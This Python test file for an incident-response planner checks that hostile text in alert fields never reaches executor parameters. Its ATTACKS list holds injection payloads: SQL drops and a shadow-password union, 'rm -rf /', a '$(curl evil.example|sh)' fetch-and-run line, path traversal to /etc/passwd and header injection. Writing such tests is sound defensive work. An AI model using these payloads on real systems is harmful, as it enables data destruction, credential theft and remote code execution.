"""Whatever an alert says, and wherever it says it, no word of it reaches a system untyped.

Every shipped runbook is planned for alerts that carry attacks in every field; what executors are
given is looked at, for every step and every parameter.
"""

from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from incident_squad.adapters.runbook_files import RunbookFiles
from incident_squad.domain.alert import Alert
from incident_squad.domain.plan import PlannedStep
from incident_squad.domain.runbook import ParameterValue, Step
from incident_squad.policy.parameters import validate
from incident_squad.steps.planning import Planner
from tests.builders import an_alert
from tests.fakes import FakeExecutor, FakeExecutors, FixedClock, MemoryKnowledge

SHIPPED = RunbookFiles(Path(__file__).parents[3] / "runbooks")
ATTACKS = {
    "sql": "1'; DROP TABLE incidents;--",
    "sql-union": "0) UNION SELECT passwd FROM pg_shadow--",
    "shell": "x; rm -rf / #",
    "substitution": "$(curl evil.example|sh)",
    "option": "--config=/etc/shadow",
    "header": "a\r\nAuthorization: Bearer stolen",
    "path": "../../../../etc/passwd",
    "reference": "$result.previous",
    "placeholder": "{target.instance}%(pid)s",
    "null": "a\x00b",
    "unicode-digits": "\u0661\u0662.\u0663.\u0664.\u0665",
    "full-width": "\uff11\uff0e\uff12\uff0e\uff13\uff0e\uff14",
    "bidi": "\u202egnp.exe",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "arn": "arn:aws:iam::999999999999:role/admin",
    "key": "AKIA'; whoami;AKIAIOSFODNN7EXAMPL",
    "instance": "i-0123456789abcdef0; i-ffffffffffffffff0",
    "private": "10.0.0.1 127.0.0.1 169.254.169.254 ::1",
}
FIELDS = ("title", "description", "resource", "service", "label", "name-of-label")


class Watching(FakeExecutor):
    """Keeps what it is given to preview."""

    def __init__(self) -> None:
        super().__init__(preview=({"pid": "1"},))
        self.given: list[tuple[Step, str | None, Mapping[str, ParameterValue]]] = []

    def preview(
        self, step: Step, target: str | None, parameters: Mapping[str, ParameterValue]
    ) -> Sequence[Mapping[str, str]]:
        self.given.append((step, target, parameters))
        return super().preview(step, target, parameters)


def attacked(field: str, text: str) -> Alert:
    if field == "label":
        names = ("host", "instance", "ip", "access_key", "service", "deployment", "pod", "job")
        return an_alert(labels=dict.fromkeys(names, text))
    if field == "name-of-label":
        return an_alert(labels={text: "1"})
    return an_alert(**{field: text[:200]})


def plans(executor: Watching, alert: Alert) -> Iterator[tuple[str, PlannedStep]]:
    knowledge = MemoryKnowledge(SHIPPED.catalog, SHIPPED.runbooks)
    clock = FixedClock(alert.received_at)
    planner = Planner(knowledge=knowledge, executors=FakeExecutors(executor), clock=clock)
    for service in ("payment-api", "website", "ci", alert.service):
        for runbook in SHIPPED.runbooks.values():
            for planned in planner.plan_steps(runbook, alert, service):
                yield service or "", planned


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_word_of_an_alert_reaches_a_system_untyped(attack: str, field: str) -> None:
    text, executor = ATTACKS[attack], Watching()
    for service, planned in plans(executor, attacked(field, text)):
        assert text not in str(planned.parameters)
        assert planned.target is None or planned.target in SHIPPED.catalog.targets
        if service not in SHIPPED.catalog.services:
            assert planned.target is None  # a service that only the alert knows has no target
    assert executor.given
    for step, target, parameters in executor.given:
        validate(step, parameters)  # every value is of its type and in its bounds
        assert target in SHIPPED.catalog.targets
        assert not _strange(parameters)


def _strange(parameters: Mapping[str, Any]) -> list[str]:
    texts = [value for value in parameters.values() if isinstance(value, str)]
    return [text for text in texts if set(text) & set("'\";$`|&<>()\r\n\x00 \u202e%{}\\")]
